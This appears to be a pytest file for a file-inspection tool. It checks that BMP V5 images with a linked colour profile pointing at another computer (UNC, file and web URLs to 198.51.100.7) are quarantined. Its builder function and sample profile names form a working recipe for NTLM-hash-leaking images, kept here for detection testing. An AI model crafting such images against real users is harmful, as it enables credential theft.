"""A BMP V5 linked colour profile that names another computer is quarantined
(agent/inspect/bmp.py, classify/metadata.py `linked_profile_path`).

BITMAPV5HEADER (124 bytes): bV5CSType at offset 56, bV5ProfileData (offset from the start
of the header) at 112, bV5ProfileSize at 116. With bV5CSType 'LINK' the profile data is a
NUL-terminated Windows-1252 file name, which Windows' colour management opens when the
picture is shown: a UNC name makes the PC sign in to that host (its NTLM hash leaks).
"""

from __future__ import annotations

import io
import struct

import pytest
from PIL import Image

from agent.inspect.engine import inspect_bytes

FILE_HEADER, V5_HEADER = 14, 124
WIDTH, HEIGHT = 4, 2
PIXELS = bytes(range(12)) * HEIGHT  # 24-bit rows of 12 bytes: already 4-byte aligned
LCS_WINDOWS_COLOR_SPACE, PROFILE_LINKED = 0x57696E20, 0x4C494E4B  # 'Win ', 'LINK'


def v5_bmp(cs_type: int, profile: bytes = b"") -> bytes:
    """A 4x2 24-bit BMP with a V5 header, its profile data after the pixels."""
    pixels_at = FILE_HEADER + V5_HEADER
    profile_at = pixels_at + len(PIXELS)
    header = bytearray(V5_HEADER)
    struct.pack_into("<IiiHHII", header, 0, V5_HEADER, WIDTH, HEIGHT, 1, 24, 0, len(PIXELS))
    struct.pack_into("<I", header, 56, cs_type)
    struct.pack_into("<III", header, 108, 4, profile_at - FILE_HEADER, len(profile))  # intent
    size = profile_at + len(profile)
    file_header = b"BM" + struct.pack("<IHHI", size, 0, 0, pixels_at)
    return file_header + bytes(header) + PIXELS + profile


def test_the_builder_makes_a_bmp_pillow_reads() -> None:
    data = v5_bmp(PROFILE_LINKED, b"C:\\Windows\\System32\\spool\\drivers\\color\\sRGB.icm\x00")
    with Image.open(io.BytesIO(data)) as image:
        image.load()
        assert image.size == (WIDTH, HEIGHT)


@pytest.mark.parametrize(
    "name",
    [
        b"\\\\198.51.100.7\\share\\sRGB.icc\x00",
        b"//198.51.100.7/share/sRGB.icc\x00",
        b"file://198.51.100.7/share/sRGB.icc\x00",
        b"https://198.51.100.7/sRGB.icc\x00",
    ],
    ids=["unc", "unc with slashes", "file url", "web url"],
)
def test_a_linked_profile_on_another_computer_is_quarantined(name: bytes) -> None:
    report = inspect_bytes("xray.bmp", v5_bmp(PROFILE_LINKED, name))
    assert report.verdict.value == "quarantine"
    [finding] = [f for f in report.findings if f.code == "bmp.payload_in_metadata"]
    assert finding.payload == "file_read"


def test_a_linked_profile_on_this_computer_stays_clean() -> None:
    name = b"C:\\Windows\\System32\\spool\\drivers\\color\\sRGB Color Space Profile.icm\x00"
    assert inspect_bytes("xray.bmp", v5_bmp(PROFILE_LINKED, name)).verdict.value == "clean"


def test_the_same_bytes_in_a_picture_without_a_linked_profile_are_not_a_link() -> None:
    """Only bV5CSType 'LINK' makes the profile data a file name."""
    data = v5_bmp(LCS_WINDOWS_COLOR_SPACE, b"\\\\198.51.100.7\\share\\sRGB.icc\x00")
    report = inspect_bytes("xray.bmp", data)
    assert "file_read" not in {f.payload for f in report.findings}
